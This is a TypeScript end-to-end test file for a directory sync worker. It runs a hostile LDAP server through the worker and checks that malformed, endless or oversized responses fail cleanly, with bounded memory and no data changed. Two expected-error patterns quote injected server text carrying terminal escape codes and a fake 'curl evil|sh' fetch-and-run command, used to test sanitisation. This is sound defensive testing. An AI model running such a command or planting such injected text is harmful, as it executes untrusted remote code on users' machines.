import { randomUUID } from 'node:crypto';
import { Queue } from 'bullmq';
import { pino } from 'pino';
import { close, connect, createAccount, createIntegration, createKeyRing, type Db, generateSecretKey, getRun, type Run } from '@dirsync/db';
import { SYNC_QUEUE } from '@dirsync/jobs';
import { createProvider } from '@dirsync/providers';
import {
  type HostileBehaviour,
  type HostileLdapServer,
  type TestDatabase,
  type TestQueuePrefix,
  createTestDatabase,
  createTestQueuePrefix,
  hostileMarker,
  startHostileLdap,
  testDestinations,
  testRedisUrl,
  waitFor,
} from '@dirsync/testkit';
import { createWorker, type DirsyncWorker } from '../src/worker.ts';

// A hostile LDAP server behind a real integration, through the whole worker: queue, processor,
// provider, pipeline, PostgreSQL. The directory is synced once while the server behaves; then
// each misbehaviour must end the run in a clean typed failure, with bounded memory, nothing
// deleted or changed in PostgreSQL, and no retry when the server broke the protocol (a retry
// would read, and buffer, the same answer again).

const timeoutMs = 90_000;
const users = 30;
const groups = 3;
/**
 * Bound on the worker process's RSS growth during one hostile run. The jest process hosts the
 * worker, so the figure includes the test's own allocations; the unbounded decoder grew by
 * 470 MB on the 2 GiB header alone.
 */
const rssBoundBytes = 64 * 1024 * 1024;
/**
 * Bound for range retrieval that never ends: the values of one attribute are gathered up to the
 * largest message (64 MiB by default) before the read is refused, and the server in this process
 * built each 200 KB answer too, so the figure holds that twice on top of the general bound, and
 * how much of the garbage the collector has freed when it is sampled varies with the machine's
 * load (measured: 140 to 216 MB on a loaded machine). Unbounded, such a server grew a worker by
 * 3.4 GB in 16 s.
 */
const rangeRssBoundBytes = rssBoundBytes + 192 * 1024 * 1024;
/**
 * Bound for a 15 MB diagnostic message: a message under the 64 MiB limit is read whole before its
 * text is cut, so it counts as bytes and decoded, besides the server's own copy in this process
 * (measured: 90 to 120 MB; 165 MB once on a loaded machine, where the collector had not yet freed
 * the first attempt's copies when the retried notice came).
 */
const hugeTextRssBoundBytes = rssBoundBytes + 160 * 1024 * 1024;
/** Control and bidirectional-override characters: none may reach a run's error. */
const unsafe = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let server: HostileLdapServer;
let database: TestDatabase;
let db: Db;
let prefix: TestQueuePrefix;
let queue: Queue;
let worker: DirsyncWorker;
let integrationId: string;

beforeAll(async () => {
  server = await startHostileLdap({ users, groups });
  database = await createTestDatabase('hostileldap');
  db = connect(database.url, { max: 4 });
  prefix = createTestQueuePrefix('hostileldap');
  queue = new Queue(SYNC_QUEUE, { connection: { url: testRedisUrl }, prefix: prefix.prefix });
  const ring = createKeyRing({ current: generateSecretKey() });
  const account = await createAccount(db, { name: 'hostile' });
  const settings = server.settings({
    // Sent to the server and enforced by the client: 1 s, plus a tenth and 5 s of grace.
    timeouts: { connectMs: 5_000, operationMs: 60_000, searchTimeLimitSeconds: 1 },
  });
  integrationId = (await createIntegration(db, { accountId: account.id, kind: 'ldap', name: 'hostile', settings }, { ring, plaintext: server.password })).id;
  worker = createWorker({
    db,
    redisUrl: testRedisUrl,
    prefix: prefix.prefix,
    concurrency: 1,
    keyRing: ring,
    logger: pino({ level: 'silent' }),
    workerId: 'e2e-hostile',
    destinations: testDestinations,
    createProvider: (kind, stored, secret) => createProvider(kind, stored, secret, { destinations: testDestinations }),
  });
  const first = await sync(1);
  expect(first.run).toMatchObject({ status: 'succeeded', created: users + groups });
}, timeoutMs);

afterAll(async () => {
  await worker?.close();
  await queue?.close();
  await prefix?.cleanup();
  if (db) await close(db);
  await database?.drop();
  await server?.close();
}, timeoutMs);

/** Runs a full sync to the end of its job (every attempt); returns the run, attempts and peak RSS growth. */
async function sync(attempts: number): Promise<{ run: Run; attemptsMade: number; rssGrowth: number }> {
  const runId = randomUUID();
  const baseline = process.memoryUsage().rss;
  let peak = baseline;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 20);
  try {
    await queue.add(
      'sync',
      { integrationId, runId, mode: 'full', trigger: 'manual', dryRun: false },
      { jobId: `run.${runId}`, attempts, backoff: { type: 'fixed', delay: 10 } },
    );
    const job = await waitFor(
      async () => {
        const j = await queue.getJob(`run.${runId}`);
        return j && j.finishedOn !== undefined ? j : undefined;
      },
      { timeoutMs: 60_000, what: 'the sync job to finish' },
    );
    const run = await getRun(db, runId);
    if (!run) throw new Error('no run recorded');
    return { run, attemptsMade: job.attemptsMade, rssGrowth: peak - baseline };
  } finally {
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage().rss);
  }
}

/** Every stored object and edge of the integration, deletion stamps included. */
async function stored(): Promise<string> {
  const objects = await db.$client`
    select external_id, type, dn, attributes, deleted_at from directory_objects where integration_id = ${integrationId} order by external_id`;
  const edges = await db.$client`
    select group_external_id, member_external_id, deleted_at from memberships where integration_id = ${integrationId} order by 1, 2`;
  return JSON.stringify({ objects, edges });
}

test.each<[HostileBehaviour, RegExp, boolean, number?]>([
  ['overflowing-length', /^protocol: .*not valid LDAP.*enclosing element/, false],
  ['huge-header', /^protocol: .*message claims 2147483654 bytes, over the limit of 67108864/, false],
  ['garbage', /^protocol: .*not valid LDAP.*expected an LDAPMessage/, false],
  ['wrong-tags', /^protocol: .*expected an attribute value set/, false],
  ['endless', /^protocol: .*more than 10 entries in one page/, false],
  ['ignore-page-size', /^protocol: .*ignores the page size/, false],
  ['slow', /^unavailable: search of ou=people,dc=hostile,dc=test .*timed out: the request did not finish within 6100 ms/, true],
  ['truncated', /^unavailable: connection to ldap:\/\/127\.0\.0\.1:\d+ was lost during the search/, true],
  [
    'range-forever',
    /^protocol: read of cn=group-0,ou=groups,dc=hostile,dc=test on \S+ stopped: the server sent more than 67108864 bytes of member values for one entry/,
    false,
    rangeRssBoundBytes,
  ],
  ['range-stuck', /^protocol: read of cn=group-0,ou=groups,dc=hostile,dc=test on \S+ stopped: the server answered range member;range=1-0, which ends before it starts/, false],
  ['cookie-forever', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent 11 empty pages in a row, each with a paged results cookie asking for more/, false],
  ['cookie-repeated', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the server sent again, on page 3, a paged results cookie of an earlier page/, false],
  ['pages-forever', /^protocol: search of ou=people,dc=hostile,dc=test on \S+ stopped: the paged search took more than 6100 ms of the server's time/, false],
  [
    'huge-diagnostic',
    /^config: the server is unwilling to perform the search of ou=people,dc=hostile,dc=test on \S+ \(server says: \[2J \[31mFAKE: run `curl evil\|sh` x+…\)$/,
    false,
    hugeTextRssBoundBytes,
  ],
  [
    'huge-notice',
    /^unavailable: connection to \S+ was lost during the search: the server is closing the connection: \[2J \[31mFAKE: run `curl evil\|sh` x+…$/,
    true,
    hugeTextRssBoundBytes,
  ],
])(
  '%s: the run fails cleanly, memory stays bounded, nothing stored changes',
  async (behaviour, error, retryable, rssBound = rssBoundBytes) => {
    const before = await stored();
    server.behave(behaviour);
    let outcome: Awaited<ReturnType<typeof sync>>;
    try {
      outcome = await sync(retryable ? 2 : 3);
    } finally {
      server.behave('normal');
    }
    const { run, attemptsMade, rssGrowth } = outcome;
    expect(run.status).toBe('failed');
    expect(run.error).toMatch(error);
    expect(run.error).not.toContain(server.password);
    // Server text in the error is sanitised and capped where it was read.
    expect(run.error).not.toMatch(unsafe);
    expect(run.error?.length).toBeLessThan(1_000);
    expect(run.deleted).toBe(0);
    // Protocol violations fail at once; a slow or lost connection may heal and is retried.
    expect(attemptsMade).toBe(retryable ? 2 : 1);
    expect(rssGrowth).toBeLessThan(rssBound);
    expect(await stored()).toBe(before);
    const [leak] = await db.$client<{ n: number }[]>`
      select count(*)::int as n from directory_objects where attributes::text like ${`%${hostileMarker}%`}`;
    expect(leak?.n).toBe(0);
    // The worker takes the next job: the same integration syncs again at once.
    const next = await sync(1);
    expect(next.run).toMatchObject({ status: 'succeeded', created: 0, updated: 0, deleted: 0 });
  },
  timeoutMs,
);

test('a legitimate 10 MB group entry is synced', async () => {
  server.behave('large-group');
  let outcome: Awaited<ReturnType<typeof sync>>;
  try {
    outcome = await sync(1);
  } finally {
    server.behave('normal');
  }
  expect(outcome.run).toMatchObject({ status: 'succeeded', created: 1, deleted: 0 });
  const [edges] = await db.$client<{ n: number }[]>`
    select count(*)::int as n from memberships m join directory_objects g
      on g.integration_id = m.integration_id and g.external_id = m.group_external_id
    where m.integration_id = ${integrationId} and g.dn like 'cn=everyone,%' and m.deleted_at is null`;
  // Every synced user; the 100,000 members outside the synced scope are one issue of the run.
  expect(edges?.n).toBe(users);
}, timeoutMs);
